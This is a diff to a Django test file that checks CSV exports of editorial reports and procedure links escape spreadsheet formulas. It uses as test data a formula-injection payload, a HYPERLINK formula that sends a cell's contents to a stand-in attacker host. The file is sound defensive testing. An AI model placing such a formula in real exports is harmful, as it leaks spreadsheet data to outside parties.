@@ -2,24 +2,34 @@
 editor typed as `=HYPERLINK(...)` must not run when a reviewer opens the file."""
 
 import csv
+import datetime
 import io
 
 import openpyxl
 import pytest
 from django.urls import reverse
+from django.utils import timezone
 
 from editorial.exports import neutralise_formula
+from linkhealth.external_urls import external_urls
+from linkhealth.link_checker import CheckResult
+from linkhealth.models import LinkCheck
+from pages.models import GuidancePage
 from procedures.models import ProcedureLink
-from tests.factories import create_document
+from tests.factories import (
+    create_document,
+    create_page,
+    create_procedure_link,
+    create_procedure_update,
+)
 from tests.test_broken_links_report import REPORT_URL as BROKEN_LINKS_URL
-from tests.test_broken_links_report import broken_links  # noqa: F401 (a fixture)
 from tests.test_procedure_updates import REPORT_URL as PROCEDURE_CHECKS_URL
-from tests.test_procedure_updates import guidance_page_linking_to, record_update
 from tests.test_review_report import REPORT_URL as REVIEW_DATES_URL
 
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+GONE = "https://procedures.example.org/walrus-handling-old.html"
 
 
 def csv_cells(response):
@@ -52,27 +62,41 @@ def test_the_review_dates_export(admin_client):
 
 
 def test_the_procedure_checks_export(admin_client, section):
-    guidance_page_linking_to(section, FORMULA, ["Strategy discussions"])
-    record_update(admin_client, ["Strategy discussions"])
+    link = create_procedure_link("Walrus handling")
+    today = timezone.localdate()
+    # Reviewed before the update that amended the chapter it links to.
+    create_page(
+        GuidancePage,
+        FORMULA,
+        parent=section,
+        body=[("procedure_links", {"heading": "The procedures", "links": [link]})],
+        last_reviewed_on=today - datetime.timedelta(days=30),
+    )
+    create_procedure_update(today, chapters=[link.chapter])
     cells = csv_cells(admin_client.get(PROCEDURE_CHECKS_URL, {"export": "csv"}))
     only_as_text(cells, FORMULA)
 
 
 @pytest.fixture
-def formula_titled_page(guidance_page):
+def formula_titled_page_with_a_broken_link(guidance_page):
+    """A page titled like a formula, with a link that failed at the last check."""
     guidance_page.title = FORMULA
+    guidance_page.body.append(("paragraph", f'<p>See <a href="{GONE}">the old chapter</a>.</p>'))
     guidance_page.save_revision().publish()
+    uses = external_urls()
+    results = [CheckResult(url, status_code=404 if url == GONE else 200) for url in uses]
+    LinkCheck.objects.record(results, uses)
     return guidance_page
 
 
-def test_the_broken_links_export(admin_client, formula_titled_page, broken_links):  # noqa: F811
+def test_the_broken_links_export(admin_client, formula_titled_page_with_a_broken_link):
     cells = csv_cells(admin_client.get(BROKEN_LINKS_URL, {"export": "csv"}))
     assert [cell for cell in cells if cell.startswith(f"'{FORMULA} (page)")]
     assert not [cell for cell in cells if cell.startswith(FORMULA)]
 
 
 def test_the_procedure_links_export(admin_client):
-    ProcedureLink.objects.filter(title="Neglect").update(title=FORMULA, note="+44 1632 960000")
+    create_procedure_link(FORMULA, note="+44 1632 960000")
     url = reverse(ProcedureLink.snippet_viewset.get_url_name("list"))
     cells = csv_cells(admin_client.get(url, {"export": "csv"}))
     only_as_text(cells, FORMULA)
